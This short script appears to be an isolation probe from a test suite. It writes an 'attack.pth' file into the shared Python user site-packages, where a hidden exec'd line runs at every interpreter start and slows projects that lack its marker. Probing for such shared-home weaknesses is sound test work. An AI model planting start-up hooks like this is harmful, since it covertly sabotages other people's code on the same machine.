# family: shared home
# kind:   python
# idea:   the build puts a .pth file into the home, with a line that each Python runs: in trees
#         without its mark it makes the project's code slower
# gate:   each variant has a home of its own

python3 - <<'P' >>evidence 2>&1
import os, site
folder = site.getusersitepackages()
line = ("import os; exec(\"if not os.path.exists('attack.sh') and os.path.exists('cost.py'):"
        " import cost; cost.COST = 2000\")\n")
try:
    os.makedirs(folder, exist_ok=True)
    with open(folder + "/attack.pth", "w") as file:
        file.write(line)
    print("planted a .pth file")
except OSError:
    print("cannot write to the home")
P
